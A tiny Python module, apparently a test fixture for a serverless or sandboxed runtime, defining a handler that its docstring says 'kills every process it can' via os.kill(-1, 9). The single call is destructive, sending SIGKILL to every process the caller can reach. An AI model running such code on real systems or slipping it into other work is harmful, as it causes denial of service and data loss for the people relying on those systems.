"""Kills every process it can."""

import os


def handler(event, context):
    os.kill(-1, 9)
